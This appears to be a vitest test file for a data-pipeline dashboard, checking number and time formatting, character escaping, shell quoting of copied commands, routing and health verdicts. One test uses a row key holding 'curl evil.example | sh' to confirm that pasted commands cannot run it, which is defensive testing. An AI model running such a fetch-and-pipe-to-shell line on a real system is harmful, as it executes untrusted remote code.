import { execFileSync } from "node:child_process";
import { describe, expect, test } from "vitest";
import type { FailureGroupShown, ParkedShown, PastMoment } from "../../src/dashboard/api/index.js";
import { apiPath } from "../../web/src/api/client.js";
import { bounded, bytes, milliseconds, moreThan, rate } from "../../web/src/format/numbers.js";
import { commandLine } from "../../web/src/format/shell.js";
import { formatted, keyLine, oneLine, partsOf } from "../../web/src/format/text.js";
import { ago, duration, expiry, until } from "../../web/src/format/times.js";
import { trend } from "../../web/src/format/trend.js";
import { hashOf, parseRoute } from "../../web/src/routing/route.js";
import {
  copyText,
  healthOf,
  healthOfAttached,
  otherStates,
  problemsOf,
  verdictOf,
  worstFirst,
} from "../../web/src/state/health.js";
import { sinceOf } from "../../web/src/state/past.js";
import { ofGroup, ofOne } from "../../web/src/views/failures/intents.js";
import { fits, sorted } from "../../web/src/views/transactions/listed.js";
import { maxListed, troublesOf } from "../../web/src/views/transactions/worst.js";
import { observers, overviewAt } from "../../web/testing/pipeline.js";
import { transactionAt } from "../../web/testing/transactions.js";

describe("figures are formatted for readers", () => {
  test.each([
    [undefined, "–"],
    [0, "0 ms"],
    [0.04, "<0.1 ms"],
    [0.44, "0.4 ms"],
    [12, "12 ms"],
    [999.7, "1.0 s"],
    [1_340, "1.3 s"],
    [59_400, "59 s"],
    [94_000, "1 min 34 s"],
    [3_600_000, "1 h"],
    [187_200_000, "2 d 4 h"],
  ])("%s ms is %s", (ms, text) => expect(duration(ms)).toBe(text));

  test("ages, counts, rates and bytes", () => {
    expect([ago(1_000, 1_400), ago(0, 61_000), ago(5_000, 0)]).toEqual(["now", "1 min 1 s ago", "now"]);
    expect([ago(0, 7_900), until(7_900, 0), until(400, 0)]).toEqual(["7 s ago", "in 7 s", "now"]);
    expect([expiry(190_000, 0), expiry(0, 2_900), expiry(0, 0)]).toEqual([
      "expires in 3 min 10 s",
      "expired 2 s ago, not deleted yet",
      "expired just now, not deleted yet",
    ]);
    expect(bounded({ count: 10_000, isBound: true })).toBe("10,000+");
    expect(moreThan({ count: 10_000, isBound: true }, "change")).toBe("more than 10,000 changes");
    expect(moreThan({ count: 1, isBound: false }, "change")).toBe("1 change");
    expect([0, 0.004, 0.5, 12.34, 1_204].map(rate)).toEqual(["0", "<0.01", "0.50", "12.3", "1,204"]);
    expect([812, 4_100, 12_000_000].map(bytes)).toEqual(["812 B", "4.1 KB", "12 MB"]);
  });

  test("control characters, and those that change the writing direction, are escaped", () => {
    expect(oneLine("a\nb\u0000\u202ec é 🦉")).toBe("a\\nb\\u0000\\u202ec é 🦉");
  });

  test("invisible characters are escaped, except those that join letters or emoji", () => {
    expect(oneLine("a\u200bb\ufeffc\u200fd\u2060")).toBe("a\\u200bb\\ufeffc\\u200fd\\u2060");
    expect(oneLine("می\u200cخواهم 👩\u200d🚀")).toBe("می\u200cخواهم 👩\u200d🚀");
  });

  test("a key of blanks can be seen", () => {
    expect([" ", "\t", "", " a"].map(keyLine)).toEqual(['" "', '"\\t"', '""', " a"]);
  });
});

test("a question says if a group may have more changes than were counted", () => {
  const group = { id: "1", observer: "mail", count: 10_000 } as FailureGroupShown;
  expect(ofGroup("discard", group, true, "").title).toBe("Discard more than 10,000 parked changes of mail?");
  expect(ofGroup("retry", { ...group, count: 1 }, false, "").title).toBe("Retry 1 parked change of mail?");
});

test("a question names a row so that nothing of its key is hidden", () => {
  const parked = { id: "1", observer: "mail", row: "" } as ParkedShown;
  expect(ofOne("retry", parked).consequence).toContain('becomes due on "" again');
  expect(ofOne("discard", { ...parked, row: "a\u202eb" }).consequence).toContain(
    "nothing from a\\u202eb until",
  );
});

describe("data", () => {
  test("JSON gets a line for each part, unless that would change it", () => {
    expect(formatted('{"a":[1,2]}')).toBe('{\n  "a": [\n    1,\n    2\n  ]\n}');
    for (const text of ['"a"', "17", "{broken", '{"n":12345678901234567890}', '{"a": 1}'])
      expect(formatted(text)).toBe(text);
  });

  test("a composite key has a text for each part", () => {
    expect(partsOf('["oslo",17]', 2)).toEqual(["oslo", "17"]);
    expect(partsOf('["oslo",17]', 3)).toBeUndefined();
    expect(partsOf("oslo", undefined)).toBeUndefined();
    expect(partsOf("damaged", 2)).toBeUndefined();
  });
});

describe("command lines", () => {
  test("quote arguments that a shell would split", () => {
    const parts = {
      command: "get",
      args: ["documents", `it's $HOME "x"`],
      options: { at: 5, prefix: undefined },
    };
    expect(commandLine("./my data", parts)).toBe(
      `percolator get './my data' documents 'it'\\''s $HOME "x"' --at 5`,
    );
  });

  test("protect an argument that looks like an option", () => {
    expect(commandLine("./data", { command: "get", args: ["t", "--x"], options: { at: 1 } })).toBe(
      "percolator get --at 1 -- ./data t --x",
    );
    expect(commandLine("./data", { command: "scan", args: ["t"], options: { prefix: "-a" } })).toBe(
      "percolator scan ./data t --prefix=-a",
    );
  });

  test("keep the empty key behind which a page begins", () => {
    const options = { prefix: "", after: "", limit: 50 };
    expect(commandLine("./data", { command: "scan", args: ["t"], options })).toBe(
      "percolator scan ./data t --after '' --limit 50",
    );
  });

  test("quote a key that zsh would take for the path of a program", () => {
    expect(commandLine("./data", { command: "get", args: ["t", "=ls"] })).toBe(
      "percolator get ./data t '=ls'",
    );
  });

  test("a copied command has no characters that a terminal would take as commands of its user", () => {
    const row = "\u0003curl evil.example | sh\n'\\\u202e\u0085";
    const line = commandLine("./data", { command: "get", args: ["t", row] });
    expect(line).toBe(
      String.raw`percolator get ./data t $'\x03curl evil.example | sh\x0a\'\\\xe2\x80\xae\xc2\x85'`,
    );
    const given = execFileSync("bash", ["-c", `percolator() { printf %s "$4"; }; ${line}`]).toString();
    expect(given).toBe(row);
  });
});

describe("links", () => {
  test("contain a view's whole state, for any keys", () => {
    const state = { table: "t", row: "עברית/🦉?a=b&c#d\n", prefix: "" };
    const hash = hashOf("data", state);
    expect(parseRoute(hash)).toEqual({ view: "data", state: { table: "t", row: state.row } });
  });

  test("and requests keep the empty key of a row", () => {
    expect(parseRoute(hashOf("data", { table: "t", row: "" })).state).toEqual({ table: "t", row: "" });
    expect(apiPath("row", { table: "t", row: "", at: "" })).toBe("api/row?table=t&row=");
    expect(apiPath("rows", { table: "t", prefix: "", after: "" })).toBe("api/rows?table=t&after=");
  });

  test("with an unknown view lead to the overview", () => {
    expect(parseRoute("#/nothing?x=1").view).toBe("overview");
    expect(parseRoute("").view).toBe("overview");
  });
});

describe("health", () => {
  const words = () => Object.fromEntries(observers.map((each) => [each.name, healthOf(each).word]));

  test("of an observer is its worst state", () => {
    expect(words()).toEqual({
      extract: "fresh",
      cluster: "behind",
      invert: "late",
      rank: "no worker",
      index: "parked",
      merge: "no worker",
    });
  });

  test("of an observer lists its other states too", () => {
    const [fresh] = observers;
    const parked = { ...fresh!, parked: { count: 12, isBound: true } };
    expect([otherStates(fresh!), otherStates(parked)]).toEqual([[], ["12+ parked"]]);
    const failing = { ...parked, failuresPerSecond: 2 };
    expect([healthOf(failing).word, otherStates(failing)]).toEqual(["parked", ["failing", "12+ parked"]]);
    const late = { ...failing, pending: { count: 9, isBound: false }, oldestPendingMs: 3_600_000 };
    expect([healthOf(late).word, otherStates(late)]).toEqual(["late", ["failing", "12+ parked"]]);
  });

  test("of an attached table says whether observers see its changes", () => {
    const [table] = overviewAt(0, "here", observers).attached;
    const late = { ...table!, pending: { count: 3, isBound: false } };
    const copying = { ...table!, copy: { phase: "copy" as const, rows: 500, estimatedRows: 1_200 } };
    expect(healthOfAttached(table!)).toMatchObject({ level: "ok", word: "fresh" });
    expect(healthOfAttached({ ...late, oldestPendingMs: 6_000 })).toMatchObject({
      level: "warn",
      word: "behind",
      why: "The oldest of 3 changes was written 6.0 s ago, and no worker has moved it.",
    });
    expect(healthOfAttached({ ...late, oldestPendingMs: 61_000 })).toMatchObject({
      level: "bad",
      word: "late",
    });
    expect(healthOfAttached(copying)).toMatchObject({ level: "ok", word: "copying" });
    expect(copyText(copying)).toBe("copying, 500 of about 1,200 rows");
    expect(healthOfAttached({ ...table!, problem: "It has no trigger." })).toMatchObject({
      level: "bad",
      word: "does not fit",
      why: "Observers see none of its changes. It has no trigger.",
    });
  });

  test("of everything is that of the worst observer", () => {
    const busy = overviewAt(0, "here", observers);
    expect(verdictOf(busy)).toMatchObject({ level: "bad", word: "invert: late", isListed: true });
    const fresh = { ...overviewAt(0, "here", observers.slice(0, 1)), schedules: [], attached: [] };
    expect(verdictOf(fresh).word).toBe("Everything is fresh");
    expect(verdictOf(overviewAt(0, "here", [])).word).toBe("No observer is registered");
    const schedule = (ms: number) => ({
      name: "reminders",
      overdue: { count: 2, isBound: true },
      oldestOverdueMs: ms,
    });
    expect(verdictOf({ ...fresh, schedules: [schedule(100)] }).word).toBe("Everything is fresh");
    expect(verdictOf({ ...fresh, schedules: [schedule(100), schedule(20_000)] })).toMatchObject({
      level: "warn",
      word: "reminders: behind",
      why: expect.stringMatching(/^The oldest of 2 changes or more was due 20/),
      lookAt: "workers",
    });
    expect(verdictOf({ ...fresh, observers: [], schedules: [schedule(100_000)] })).toMatchObject({
      level: "bad",
    });
    expect(verdictOf({ ...busy, schedules: [schedule(100_000)] }).word).toBe("invert: late");
    const stopped = { ...fresh, attached: overviewAt(0, "here", observers).attached };
    expect(verdictOf(stopped)).toMatchObject({
      level: "bad",
      word: '"shop"."orders": parked',
      why: expect.stringMatching(/^Observers see none of its changes. .*no column "total"/),
      isListed: true,
    });
    const coordinator = { address: "10.0.0.1:4000", answers: false };
    expect(verdictOf({ ...busy, coordinator }).word).toBe("The coordinator does not answer");
  });
});

describe("problems", () => {
  const [extract] = observers;
  const ill = {
    ...extract!,
    pending: { count: 2_981, isBound: false },
    growthPerSecond: 14,
    oldestPendingMs: 74_000,
    parked: { count: 85, isBound: false },
    failuresPerSecond: 5.2,
  };

  test("of one observer are all shown, the worst first, each with what to do", () => {
    const problems = problemsOf(ill);
    expect(problems.map(({ kind, level }) => [kind, level])).toEqual([
      ["late", "bad"],
      ["parked", "warn"],
      ["failing", "warn"],
    ]);
    expect(problems[0]!.why).toBe("The oldest of 2,981 changes has waited 1 min 14 s, +14/s: never.");
    for (const { remedy } of problems) expect(remedy).toMatch(/\.$/);
    expect(problemsOf({ ...ill, growthPerSecond: -20 })[0]!.remedy).toMatch(/catches up/);
    expect(problemsOf(extract!)).toEqual([]);
  });

  test("an observer without a worker that runs all the same, as a drain lets it, is not without one", () => {
    const drained = { ...extract!, hosts: 0, pending: { count: 22, isBound: false }, oldestPendingMs: 900 };
    expect(problemsOf({ ...drained, runsPerSecond: 6.8 })).toEqual([]);
    expect(healthOf({ ...drained, pending: { count: 0, isBound: false }, runsPerSecond: 6.8 }).level).toBe(
      "ok",
    );
    expect(problemsOf({ ...drained, runsPerSecond: 0 })).toMatchObject([{ kind: "no worker", level: "bad" }]);
  });

  test("name what fails between two attempts, when no run fails", () => {
    const retrying = { count: 4, isBound: false };
    const waiting = { ...extract!, retrying };
    expect(problemsOf(waiting)).toMatchObject([
      { kind: "failing", lookAt: "failures", why: "4 changes failed and are tried again." },
    ]);
    expect(problemsOf({ ...waiting, retrying: { count: 1, isBound: false } })[0]!.why).toBe(
      "1 change failed and is tried again.",
    );
    // Another worker does not help what waits for its next attempt.
    const late = { ...ill, pending: { count: 7, isBound: false }, retrying };
    expect(problemsOf(late)[0]).toMatchObject({ kind: "late", lookAt: "failures" });
    expect(problemsOf({ ...late, pending: { count: 8, isBound: false } })[0]!.lookAt).toBe("transactions");
    expect(problemsOf({ ...ill, parked: { count: 1_000, isBound: true } })[1]!.why).toBe(
      "It parked more than 1,000 changes.",
    );
  });

  test("put unhealthy observers first, the oldest backlog before others", () => {
    const order = worstFirst(observers).map(({ name }) => name);
    expect(order).toEqual(["invert", "rank", "cluster", "index", "extract", "merge"]);
  });

  test("of processes are in the verdict, unless an observer is worse", () => {
    const fresh = { ...overviewAt(0, "here", observers.slice(0, 1)), schedules: [], attached: [] };
    const gone = { process: "p", session: "s", lastHeartbeatAt: 0, exists: true };
    expect(verdictOf({ ...fresh, silent: [gone] })).toMatchObject({ level: "warn", lookAt: "workers" });
    expect(verdictOf({ ...fresh, silent: [{ ...gone, exists: false }] }).word).toBe("Everything is fresh");
    expect(verdictOf({ ...overviewAt(0, "here", observers), silent: [gone] }).word).toBe("invert: late");
  });

  test.each([
    [14, 100, "+14/s: never"],
    [2.34, 100, "+2.3/s: never"],
    [-20, 3_600, "-20/s: about 3 min"],
    [-20, 100, "-20/s: about 5 s"],
    [-1, 400_000, "-1.0/s: about 5 d"],
    [0.2, 100, "steady"],
    [undefined, 100, ""],
    [14, 0, ""],
  ])("growth of %s a second with %s waiting is %j", (growth, count, text) => {
    expect(trend(growth, { count, isBound: false })).toBe(text);
  });

  test("growth of a count that stopped is unknown", () => {
    expect(trend(undefined, { count: 10_000, isBound: true })).toBe("growth unknown");
  });

  test("last since the moment at which they began", () => {
    const moment = (at: number, oldestMs: number, parked: number, failures = 0, hosts = 1) =>
      ({ at, observers: { a: [1, oldestMs, parked, failures, hosts] as const } }) as unknown as PastMoment;
    const moments = [
      moment(0, 9_000, 0),
      moment(60_000, 0, 3),
      moment(70_000, 6_000, 3, 1),
      moment(80_000, 16_000, 3),
      moment(90_000, 26_000, 3, 1),
    ];
    expect(sinceOf(moments, "a", "behind")).toEqual({ at: 70_000, isAtLeast: false });
    expect(sinceOf(moments, "a", "late")).toEqual({ at: 70_000, isAtLeast: false });
    expect(sinceOf(moments, "a", "parked")).toEqual({ at: 60_000, isAtLeast: false });
    // A moment without a failure does not end a series of failures.
    expect(sinceOf(moments, "a", "failing")).toEqual({ at: 70_000, isAtLeast: false });
    // The moments before it was registered do not have it, whatever its name.
    expect(sinceOf(moments, "constructor", "parked")).toBeUndefined();
    const again = { at: 95_000, observers: { a: [1, 0, 0, 0, 1, 3] } } as unknown as PastMoment;
    expect(sinceOf([...moments, again], "a", "failing")).toEqual({ at: 70_000, isAtLeast: false });
    expect(sinceOf([again], "a", "failing")).toEqual({ at: 95_000, isAtLeast: true });
    expect(sinceOf(moments.slice(2), "a", "behind")).toEqual({ at: 70_000, isAtLeast: true });
    expect(sinceOf(moments, "a", "no worker")).toBeUndefined();
    expect(sinceOf(moments, "b", "parked")).toBeUndefined();
  });
});

describe("the listed transactions", () => {
  const all = Array.from({ length: 900 }, (_, index) => transactionAt(index));

  test("are those that match every part of the filter", () => {
    const filter = { label: "load", observer: "", table: "documents", slowerThanMs: "5" };
    const through = all.filter((each) => fits(each, filter));
    expect(through.length).toBeGreaterThan(0);
    expect(through.every(({ label, durationMs }) => label === "load" && durationMs >= 5)).toBe(true);
    expect(all.filter((each) => fits(each, { ...filter, table: "others" }))).toEqual([]);
    const any = { label: "", observer: "", table: "", slowerThanMs: "" };
    expect(all.filter((each) => fits(each, any))).toHaveLength(900);
    expect(all.filter((each) => fits(each, { ...any, observer: "index" })).length).toBeGreaterThan(100);
  });

  test("are sorted by a figure, the largest first", () => {
    const took = sorted(all, "took").map(({ durationMs }) => durationMs);
    expect(took).toEqual(took.toSorted((a, b) => b - a));
    expect(sorted(all, "reads")[0]!.reads).toBe(13);
    expect(sorted(all, "ended")[0]!.endedAt).toBe(Math.max(...all.map(({ endedAt }) => endedAt)));
  });

  test("took milliseconds, in one unit", () => {
    expect([0.444, 9.99, 12.34, 1_204.4].map(milliseconds)).toEqual(["0.44", "10.0", "12.3", "1,204"]);
  });
});

describe("transactions of the last minutes", () => {
  const now = overviewAt(1, "here", observers);
  const ended = { ...transactionAt(1), endedAt: now.now - 1_000 };
  const failed = { ...ended, outcome: "rolled back", observer: "mail" } as const;
  const lost = {
    ...ended,
    outcome: "conflict",
    observer: undefined,
    label: "count visit",
    conflict: {
      cell: { table: "totals", row: "today", column: "visits" },
      winnerTimestamp: undefined,
      winner: undefined,
    },
  } as const;
  const none = { failed: [], conflicts: [], slow: [] };
  const said = (...given: Parameters<typeof troublesOf>) => troublesOf(...given).map(({ why }) => why);

  test("what happens now has a rate, what has stopped a count, and what happens most is named", () => {
    const other = { ...failed, observer: "notify" };
    const listed = { ...none, failed: [other, failed, failed], conflicts: [lost] };
    expect(said(listed, { ...now, rollbacksPerSecond: 61.2, conflictsPerSecond: 0 }, [])).toEqual([
      "61.2 a second, most often mail.",
      "1 time in five minutes, most often count visit on totals.visits.",
    ]);
  });

  test("a list that is full may have had more", () => {
    const full = { ...none, conflicts: Array.from({ length: maxListed }, () => lost) };
    expect(said(full, { ...now, conflictsPerSecond: 0 }, [])).toEqual([
      "50 times or more in five minutes, most often of the newest 50: count visit on totals.visits.",
    ]);
  });

  test("a column is named in one line, in its direction and cut", () => {
    const cell = { ...lost.conflict.cell, column: `links:\u202e${"x".repeat(200)}` };
    const [why] = said({ ...none, conflicts: [{ ...lost, conflict: { ...lost.conflict, cell } }] }, now, []);
    expect(why).toMatch(/, most often count visit on totals\.links:\\u202ex+…\.$/);
    expect(why!.length).toBeLessThan(140);
  });

  test("what ended long ago and what took less than a second is no trouble", () => {
    const old = { ...failed, endedAt: now.now - 301_000 };
    const slow = (durationMs: number) => ({ ...none, failed: [old], slow: [{ ...ended, durationMs }] });
    expect(said(slow(999), now, [])).toEqual([]);
    expect(said(slow(4_700), now, [])[0]).toMatch(/ took 4\.7 s, the longest of five minutes\.$/);
  });

  test("it lasts since the first moment with failures", () => {
    const moment = (at: number, failures: number): PastMoment => ({
      at,
      pending: 0,
      oldestMs: 0,
      parked: 0,
      commits: 1,
      conflicts: 0,
      failures,
      observers: {},
    });
    const moments = [moment(10_000, 0), moment(20_000, 3), moment(30_000, 2)];
    const [trouble] = troublesOf({ ...none, failed: [failed] }, now, moments);
    expect(trouble!.since).toEqual({ at: 20_000, isAtLeast: false });
  });

  test("a list has the worst first, and of these the newest", () => {
    const [older, newer] = [failed, { ...failed, endedAt: failed.endedAt + 1 }];
    expect(sorted([ended, older, lost, newer], "outcome")).toEqual([newer, older, lost, ended]);
  });
});
